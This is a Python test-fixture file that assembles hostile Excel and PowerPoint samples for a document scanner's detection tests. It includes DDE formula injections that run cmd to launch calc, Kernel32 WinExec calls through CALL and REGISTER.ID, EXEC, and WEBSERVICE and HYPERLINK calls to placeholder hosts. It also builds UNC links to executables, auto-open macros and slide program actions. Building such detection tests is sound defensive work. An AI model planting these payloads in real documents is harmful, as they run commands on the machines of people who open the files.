"""Hostile workbooks and slides: connections, formulas that call programs or sites, links, actions, linked media."""

from tests import files
from tests.documents.files.corpus.packages import (
    BOOK,
    SHEET,
    SLIDE,
    formula,
    name_defined,
    related,
    sheet,
    slide,
)

BOOK_FILE = files.xlsx(Data=[[7]])
SHOW = files.pptx(("Rapat", ""))
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
CONNECTIONS = f'<connections {MAIN}><connection id="1" name="a" type="4"><webPr url="http://a.invalid"/></connection></connections>'
DDE_LINK = f'<externalLink {MAIN}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'


def book(kind: str, path: str, content: str, part: str = BOOK) -> bytes:
    return files.with_parts(related(BOOK_FILE, part, kind, f"/xl/{path}"), {f"xl/{path}": content})


def click(action: str, target: str = "http://contoh.id/") -> bytes:
    """A slide with a shape that does something when it is clicked."""
    shape = (
        '<p:sp xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<p:nvSpPr><p:cNvPr id="99" name="a">'
        f'<a:hlinkClick r:id="baru" action="{action}"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>'
    )
    return related(slide(shape), SLIDE, "hyperlink", target, "External")


CASES = [
    ("connections", "koneksi.xlsx", book("connections", "connections.xml", CONNECTIONS)),
    ("connections", "koneksi-nama-lain.xlsx", book("connections", "a.xml", CONNECTIONS)),
    ("connections", "kueri.xlsx", book("queryTable", "queryTables/queryTable1.xml", f"<queryTable {MAIN}/>", SHEET)),
    (
        "connections",
        "kueri-power.xlsx",
        files.with_parts(
            BOOK_FILE,
            {"customXml/item1.xml": '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'},
        ),
    ),
    ("external_content", "dde-nama-lain.xlsx", book("externalLink", "a.xml", DDE_LINK)),
    ("external_content", "pivot.xlsx", related(BOOK_FILE, SHEET, "externalLinkPath", "\\\\a\\b.xlsx", "External")),
    ("formulas", "webservice.xlsx", formula('_xlfn.WEBSERVICE("http://contoh.invalid/?"&amp;A2)')),
    ("formulas", "webservice-spasi.xlsx", formula("WebService  (A2)")),
    ("formulas", "cmd.xlsx", formula("cmd|'/c calc'!A0")),
    ("formulas", "cmd-kutip.xlsx", formula("'cmd'|'/c calc'!A0")),
    ("formulas", "cmd-referensi.xlsx", formula("1+cmd&#124;'/c calc'!A0")),
    ("formulas", "msexcel.xlsx", formula("MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''")),
    ("formulas", "rtd.xlsx", formula('RTD("a.b",,"c")')),
    ("formulas", "call.xlsx", formula('CALL("Kernel32","WinExec","JCJ","calc",0)')),
    ("formulas", "exec.xlsx", formula('EXEC("calc.exe")')),
    ("formulas", "register.xlsx", formula('REGISTER.ID("Kernel32","WinExec")')),
    ("formulas", "image.xlsx", formula('_xlfn.IMAGE("http://contoh.invalid/a.png")')),
    ("formulas", "nama.xlsx", name_defined("Ambil", 'WEBSERVICE("http://contoh.invalid")')),
    ("formulas", "dde-nama.xlsx", name_defined("Ambil", "cmd|'/c calc'!A0")),
    ("formulas", "berkas-luar.xlsx", formula("'\\\\contoh.invalid\\[a.xlsx]Lembar'!A1")),
    ("formulas", "hyperlink-berkas.xlsx", formula('HYPERLINK("file:///C:/Windows/System32/calc.exe","klik")')),
    ("formulas", "hyperlink-hitung.xlsx", formula('HYPERLINK("http://contoh.invalid/?"&amp;A1)')),
    ("formulas", "hyperlink-fungsi.xlsx", formula('1+HYPERLINK(IF(A1=1,"http://contoh.invalid",B1),"klik")')),
    ("formulas", "hyperlink-unc.xlsx", formula('HYPERLINK("\\\\contoh.invalid\\a.exe","klik")')),
    ("formulas", "hyperlink-sambung.xlsx", formula('HYPERLINK("fi"&amp;"le:///C:/a.exe","klik")')),
    (
        "formulas",
        "validasi.xlsx",
        sheet(
            '<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>WEBSERVICE("http://a.invalid")</formula1></dataValidation></dataValidations>'
        ),
    ),
    (
        "formulas",
        "bersyarat.xlsx",
        sheet(
            '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
            "<formula>cmd|'/c calc'!A0</formula></cfRule></conditionalFormatting>"
        ),
    ),
    (
        "formulas",
        "awalan.xlsx",
        sheet(
            '<x:extra xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:f>WEBSERVICE("http://a.invalid")</x:f></x:extra>'
        ),
    ),
    ("macros", "auto-open.xlsx", name_defined("_xlnm.Auto_Open", "Data!$A$1")),
    ("macros", "lembar-makro.xlsx", book("xlMacrosheet", "a.xml", "<a/>")),
    (
        "local_links",
        "tautan-berkas.xlsx",
        related(BOOK_FILE, SHEET, "hyperlink", "file:///\\\\contoh.invalid\\a.exe", "External"),
    ),
    (
        "ole_objects",
        "objek.xlsx",
        related(
            files.with_parts(BOOK_FILE, {"xl/embeddings/a.bin": files.ole("Workbook")}),
            SHEET,
            "oleObject",
            "../embeddings/a.bin",
        ),
    ),
    ("local_links", "program.pptx", click("ppaction://program", "file:///C:/a.exe")),
    ("active_content", "program-tanpa-berkas.pptx", click("ppaction://program")),
    ("active_content", "makro.pptx", click("ppaction://macro?name=Jalankan")),
    ("active_content", "ole.pptx", click("ppaction://ole?verb=0")),
    ("local_links", "klik.pptx", click("", "\\\\contoh.invalid\\a.exe")),
    ("external_content", "film.pptx", related(SHOW, SLIDE, "video", "http://contoh.invalid/a.mp4", "External")),
    ("external_content", "gambar.pptx", related(SHOW, SLIDE, "image", "file://contoh.invalid/a.png", "External")),
    (
        "external_content",
        "bagan.pptx",
        related(SHOW, SLIDE, "oleObject", "file:///\\\\contoh.invalid\\a.xlsx", "External"),
    ),
    (
        "ole_objects",
        "objek.pptx",
        related(
            files.with_parts(SHOW, {"ppt/embeddings/a.bin": files.ole("Contents")}),
            SLIDE,
            "oleObject",
            "../embeddings/a.bin",
        ),
    ),
    (
        "active_content",
        "kendali.pptx",
        related(files.with_parts(SHOW, {"ppt/a.xml": "<a/>"}), SLIDE, "control", "../a.xml"),
    ),
]
